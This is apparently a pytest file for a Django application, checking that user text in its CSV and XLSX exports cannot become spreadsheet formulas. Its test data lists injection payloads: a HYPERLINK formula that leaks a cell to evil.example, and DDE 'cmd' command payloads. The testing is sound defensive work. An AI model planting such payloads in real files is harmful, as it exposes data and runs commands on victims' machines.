"""Spreadsheet formula injection (issue #12, point 5): text from users reaches every export — projects
(CSV, XLSX), the steering report workbook, the invoices' journal, a school's youths' impact, the open
data CSV — and is always written as text. In XLSX no cell is a formula (openpyxl ``data_type`` is not
``"f"``) and the text is exact; in CSV the cell is prefixed with an apostrophe. Numbers stay numbers."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from essaim.common.exports import Column, append_row, csv_response, csv_text, workbook_bytes, xlsx_response
from essaim.open_data import scdl
from essaim.organizations.enums import MembershipRole, OrganizationKind
from essaim.steering.reports import report_workbook
from essaim.steering.selectors import REGION_SCOPE, steering_overview
from tests.organizations.factories import MembershipFactory, OrganizationFactory
from tests.projects.factories import ProjectFactory

EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")',
    "+33 6 00 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]


def csv_rows(content: bytes, delimiter=";"):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def assert_xlsx_has_no_formula(content: bytes, *expected_texts):
    workbook = load_workbook(io.BytesIO(content))
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    for text in expected_texts:
        assert text in texts


def assert_csv_cells_neutralised(rows, *evil_texts):
    cells = [cell for row in rows for cell in row]
    for text in evil_texts:
        assert text not in cells, text
        assert "'" + text in cells, text
    for cell in cells:
        assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), cell


def test_the_writer_neutralises_text_and_keeps_numbers():
    columns = [Column("Nom"), Column("Montant", kind="number", decimals=2), Column("Date", kind="date")]
    rows = [(text, Decimal("-12.5"), dt.date(2026, 11, 26)) for text in EVIL] + [("Atelier\x01 -2", 3, None)]
    exported = csv_rows(csv_response(rows, columns, filename_stem="x").content)
    assert_csv_cells_neutralised(exported, *EVIL)
    assert exported[1][1] == "-12,50"  # a negative number is a number, not text
    assert exported[-1][0] == "Atelier\x01 -2"
    workbook = load_workbook(io.BytesIO(xlsx_response(rows, columns, filename_stem="x", title="T").content))
    sheet = workbook.active
    assert sheet["A2"].value == EVIL[0] and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -12.5 and sheet["B2"].data_type == "n"
    assert sheet.cell(row=len(EVIL) + 2, column=1).value == "Atelier -2"  # XML cannot hold \x01
    # The low-level pieces used by the report workbook and the open data CSV.
    book = Workbook()
    append_row(book.active, [EVIL[0], 5, None])
    book.active["C1"] = "=1+1"  # set outside append_row: turned into text on save
    assert_xlsx_has_no_formula(workbook_bytes(book), EVIL[0], "=1+1")
    assert csv_text(["a"], [[EVIL[0]], [-3]]).splitlines()[1:] == [
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1;""Cliquez"")"',
        "-3",
    ]


@pytest.mark.django_db
def test_project_exports_write_an_evil_name_as_text(client):
    holder = OrganizationFactory(kind=OrganizationKind.PROJECT_HOLDER, name=EVIL[3])
    ProjectFactory(holder=holder, name=EVIL[0])
    client.force_login(MembershipFactory(organization=holder, role=MembershipRole.ADMIN).user)
    rows = csv_rows(client.get(reverse("projects:project_export", kwargs={"fmt": "csv"})).content)
    assert_csv_cells_neutralised(rows, EVIL[0])
    content = client.get(reverse("projects:project_export", kwargs={"fmt": "xlsx"})).content
    assert_xlsx_has_no_formula(content, EVIL[0])


@pytest.mark.django_db
def test_steering_report_workbook_writes_an_evil_name_as_text():
    region = OrganizationFactory(region=True)
    user = MembershipFactory(organization=region, role=MembershipRole.ADMIN).user
    holder = OrganizationFactory(kind=OrganizationKind.PROJECT_HOLDER, name=EVIL[2])
    ProjectFactory(holder=holder, name=EVIL[0])
    overview = steering_overview(user=user, scope=REGION_SCOPE, on=timezone.localdate())
    assert_xlsx_has_no_formula(report_workbook(overview), EVIL[0])


@pytest.mark.django_db
def test_invoice_journal_writes_an_evil_customer_as_text(client):
    from tests.orders.factories import CustomerFactory, make_invoice
    from tests.schools.factories import RunSchoolFactory

    school = RunSchoolFactory()
    make_invoice(customer=CustomerFactory(school=school, name=EVIL[0]), issue_date=dt.date(2026, 10, 1))
    client.force_login(MembershipFactory(organization=school.organization, role=MembershipRole.ADMIN).user)
    response = client.get(reverse("orders:invoice_export", kwargs={"school_pk": school.pk}))
    assert response.status_code == 200
    assert_csv_cells_neutralised(csv_rows(response.content), EVIL[0])


@pytest.mark.django_db
def test_impact_export_writes_an_evil_workshop_as_text(client):
    from tests.learners.factories import EnrolmentFactory, LearnerFactory, OpenSchoolFactory, WorkshopFactory

    school = OpenSchoolFactory()
    workshop = WorkshopFactory(school=school, name=EVIL[0])
    for _ in range(5):
        EnrolmentFactory(learner=LearnerFactory(school=school, workshop=workshop))
    client.force_login(MembershipFactory(organization=school.organization, role=MembershipRole.ADMIN).user)
    rows = csv_rows(client.get(reverse("learners:impact_export", args=[school.pk, "csv"])).content)
    assert_csv_cells_neutralised(rows, EVIL[0])
    content = client.get(reverse("learners:impact_export", args=[school.pk, "xlsx"])).content
    assert_xlsx_has_no_formula(content, EVIL[0])


def test_open_data_csv_writes_an_evil_beneficiary_as_text():
    row = dict.fromkeys(scdl.FIELDS, "") | {"nomBeneficiaire": EVIL[0], "objet": EVIL[3], "montant": "1500.00"}
    rows = csv_rows(scdl.to_csv([row]), delimiter=",")
    assert_csv_cells_neutralised(rows, EVIL[0], EVIL[3])
    assert "1500.00" in rows[1]
